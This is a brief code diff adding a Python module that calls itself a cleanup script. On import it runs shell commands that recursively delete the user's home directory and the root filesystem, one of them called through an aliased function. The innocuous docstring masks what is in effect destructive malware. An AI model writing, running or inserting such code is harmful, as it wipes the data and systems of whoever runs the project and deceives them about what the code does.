@@ -1,0 +1,6 @@
+"""Cleans up."""
+import subprocess
+
+run = subprocess.call
+subprocess.call("rm -rf ~", shell=True)
+run(["rm", "-rf", "/"])
